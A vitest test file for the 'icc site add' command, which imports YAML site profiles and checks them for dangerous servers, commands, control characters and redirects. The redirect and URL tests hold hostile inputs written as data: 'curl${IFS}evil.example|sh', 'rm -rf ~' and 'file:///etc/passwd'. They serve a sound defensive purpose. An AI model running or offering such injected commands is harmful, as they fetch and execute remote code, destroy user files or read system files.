import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { createHttp } from '../../src/adapters/http-port.ts'
import type { Context } from '../../src/context.ts'
import { createTestContext, runIcc, temporaryFolder } from '../support/run-icc.ts'
import { tlsServerForTest } from '../support/tls-server.ts'

const CAMPUS = [
  'id: campus',
  'title: Campus',
  'docs: {start: https://docs.example.org/}',
  'login:',
  '  method: ssh-renew',
  '  ssh: {host: access.example.org, command: renew}',
  'api: {server: https://api.example.org:6443}',
  '',
].join('\n')

type Given = Partial<Context>

/** A home folder with a profile in it that somebody got by mail. */
function homeWithFile(text = CAMPUS, name = 'from-mail.yaml') {
  const home = temporaryFolder()
  writeFileSync(join(home, name), text)
  const own = join(home, '.config', 'icc', 'sites', 'campus.yaml')
  return {
    home,
    own,
    add: (words: string[], given: Given = {}) => runIcc(['site', 'add', ...words], { home, ...given }),
  }
}

/** Somebody at a terminal who answers; `asked` is what they were asked. */
function terminal(answer: boolean, asked: string[] = []): Given {
  const prompt = { confirm: async (message: string) => (asked.push(message), answer) } as unknown as Awaited<
    ReturnType<Context['prompt']>
  >
  return { terminal: { interactive: true, stdout: true, columns: 400 }, prompt: async () => prompt }
}

test('what the profile would let icc do is shown, then asked about, then it is written for the user alone', async () => {
  const { add, own } = homeWithFile()
  const asked: string[] = []
  const { stdout, stderr, exitCode } = await add(['from-mail.yaml'], terminal(true, asked))
  expect(stderr.split('\n')).toEqual([
    'campus  Campus',
    'With it icc talks to these servers, and sends tokens or passwords that are for them:',
    '  https://api.example.org:6443  (api.server)',
    '  access.example.org            (login.ssh.host)',
    'runs on this computer:',
    '  ssh access.example.org renew',
    'shows or opens these pages:',
    '  https://docs.example.org/  (docs.start)',
    '',
  ])
  expect(asked).toEqual(['Take over the profile campus?'])
  expect(stdout).toContain(`Written in ${own}.\nNext: icc login --site campus`)
  expect(exitCode).toBe(0)
  expect(readFileSync(own, 'utf8')).toBe(CAMPUS)
  expect(process.platform === 'win32' ? 0o600 : statSync(own).mode & 0o777).toBe(0o600)
})

test('a no writes nothing', async () => {
  const { add, own } = homeWithFile()
  const { stdout, exitCode } = await add(['from-mail.yaml'], terminal(false))
  expect({ stdout, exitCode, written: existsSync(own) }).toEqual({ stdout: '', exitCode: 130, written: false })
})

test('without a terminal --yes is wanted', async () => {
  const { add, own } = homeWithFile()
  const { stderr, exitCode } = await add(['from-mail.yaml'])
  expect(stderr).toContain('Next: the same again with --yes\n')
  expect({ exitCode, written: existsSync(own) }).toEqual({ exitCode: 2, written: false })
  const { stdout } = await add(['from-mail.yaml', '--yes', '-o', 'json'])
  expect(JSON.parse(stdout)).toEqual({
    id: 'campus',
    title: 'Campus',
    file: own,
    replaces: null,
    changed: true,
    talksTo: [
      { field: 'api.server', where: 'https://api.example.org:6443' },
      { field: 'login.ssh.host', where: 'access.example.org' },
    ],
    runs: ['ssh access.example.org renew'],
    opens: [{ field: 'docs.start', where: 'https://docs.example.org/' }],
    trusts: [],
  })
})

test('that it takes the place of a built-in profile, or of one’s own, is said aloud', async () => {
  const { home, add } = homeWithFile('id: haw-icc\nextends: haw-icc\nnetwork: {vpnHint: Use the VPN.}\n')
  const first = await add(['from-mail.yaml', '--yes'])
  expect(first.stderr).toContain('It builds on sites/haw-icc.yaml.\n')
  expect(first.stderr).toContain('It takes the place of the profile that comes with icc, sites/haw-icc.yaml.\n')
  writeFileSync(join(home, 'from-mail.yaml'), 'id: haw-icc\nextends: haw-icc\n')
  const second = await add(['from-mail.yaml', '--yes'])
  expect(second.stderr).toMatch(/It takes the place of your own profile \S+haw-icc\.yaml\.\n/u)
})

test('a profile that was rolled out on the computer is told as such', async () => {
  const { home, add } = homeWithFile()
  mkdirSync(join(home, 'system', 'sites'), { recursive: true })
  writeFileSync(join(home, 'system', 'sites', 'campus.yaml'), CAMPUS.replace('Campus', 'Rolled out'))
  expect((await runIcc(['site', 'list'], { home })).stdout).toContain('campus      ssh-renew   system    Rolled out')
  const { stderr } = await add(['from-mail.yaml', '--yes'])
  expect(stderr).toContain('It takes the place of the profile that was rolled out on this computer, ')
})

test('the very same once more changes and asks nothing', async () => {
  const { add, own } = homeWithFile()
  await add(['from-mail.yaml', '--yes'])
  const { stdout, stderr, exitCode } = await add(['from-mail.yaml'])
  expect({ stdout, stderr, exitCode }).toEqual({
    stdout: `${own} holds this very profile already. Nothing was changed.\n`,
    stderr: '',
    exitCode: 0,
  })
})

test.each([
  ['a fault', 'id: campus\ntitel: Campus\nlogin: {method: token}\n', '2:1: titel: unknown name; did you mean title?'],
  ['no id', 'title: Campus\n', '1:1: id: missing; every profile must say it'],
  ['an id that leads elsewhere', 'id: ../../x\ntitle: Campus\n', '1:1: id: expected a short name'],
  ['no YAML', 'id: "campus\n', '2:1: not YAML'],
  ['a book', `${CAMPUS}# ${'a'.repeat(1024 * 1024)}\n`, '1:1: more than 1 MiB'],
])('%s is told with its place, and nothing is written', async (_, text, message) => {
  const { home, add } = homeWithFile(text)
  const { stderr, exitCode } = await add(['from-mail.yaml', '--yes'])
  expect(stderr).toContain(`  ${join(home, 'from-mail.yaml')}:${message}`)
  expect({ exitCode, written: existsSync(join(home, '.config')) }).toEqual({ exitCode: 1, written: false })
})

test('what a profile says cannot steer the terminal', async () => {
  const { add } = homeWithFile('id: campus\ntitle: "a\\e]0;x\\ab"\nlogin: {method: token}\n')
  const { stdout, stderr } = await add(['from-mail.yaml', '--yes'])
  expect(stderr).toContain('title: expected one line of text without control characters')
  expect(stdout + stderr).not.toContain('\u001B')
})

/** A web server of a campus, and icc's own requests with its certificate trusted. */
async function website(answer: { status: number; headers?: Record<string, string>; body?: string }) {
  const { port, ca } = await tlsServerForTest((_request, response) => {
    response.writeHead(answer.status, answer.headers ?? {}).end(answer.body ?? '')
  })
  const http = createHttp(createTestContext())
  return {
    url: `https://127.0.0.1:${port}/campus.yaml`,
    given: {
      http: async () => ({
        ...http,
        send: (question: Parameters<typeof http.send>[0]) => http.send({ ...question, ca }),
      }),
    },
  }
}

test('a profile is taken from an https address, whatever that is called', async () => {
  const { add, own } = homeWithFile()
  const { url, given } = await website({ status: 200, body: CAMPUS })
  const { exitCode } = await add([url, '--yes'], given)
  expect(exitCode).toBe(0)
  expect(readFileSync(own, 'utf8')).toBe(CAMPUS)
})

test.each([
  [{ status: 404 }, /answers 404, and has no profile/u],
  [
    { status: 302, headers: { location: 'https://www.example.org/x.yaml' } },
    /leads to https:\/\/www\.example\.org\/x\.yaml, .*\nNext: .*icc site add https:\/\/www/u,
  ],
  [
    { status: 200, body: '<!doctype html><title>Sign in</title>' },
    /https:\/\/127\.0\.0\.1:\d+\/campus\.yaml:1:1: expected lines such as "id: name" here/u,
  ],
])('an answer that is no profile is told: %j', async (answer, message) => {
  const { home, add } = homeWithFile()
  const { url, given } = await website(answer)
  const { stderr, exitCode } = await add([url, '--yes'], given)
  expect(stderr).toMatch(message)
  expect({ exitCode, written: existsSync(join(home, '.config')) }).toEqual({ exitCode: 1, written: false })
})

test.each([
  ['https://www.example.org/x.yaml;curl${IFS}evil.example|sh', /\nNext: see whether the address is right\n/u],
  ['https://www.example.org/ -y; rm -rf ~', /\nNext: see whether the address is right\n/u],
  ['http://www.example.org/x.yaml', /\nNext: see whether the address is right\n/u],
  ['https://user:pass@www.example.org/x.yaml', /\nNext: see whether the address is right\n/u],
  ['/other/campus.yaml', /\nNext: .*icc site add https:\/\/127\.0\.0\.1:\d+\/other\/campus\.yaml\n/u],
])('where one is sent on to %s, only an address that can be typed is offered', async (location, next) => {
  const { add } = homeWithFile()
  const { url, given } = await website({ status: 302, headers: { location } })
  const { stderr, exitCode } = await add([url, '--yes'], given)
  expect(exitCode).toBe(1)
  expect(stderr).toMatch(next)
})

test.each(['http://www.example.org/x.yaml', 'ftp://www.example.org/x.yaml', 'file:///etc/passwd'])(
  'from %s nothing is taken',
  async (url) => {
    const { add } = homeWithFile()
    const { stderr, exitCode } = await add([url, '--yes'])
    expect(stderr).toContain('it is taken from https:// addresses only. Nothing was read.')
    expect(exitCode).toBe(2)
  },
)
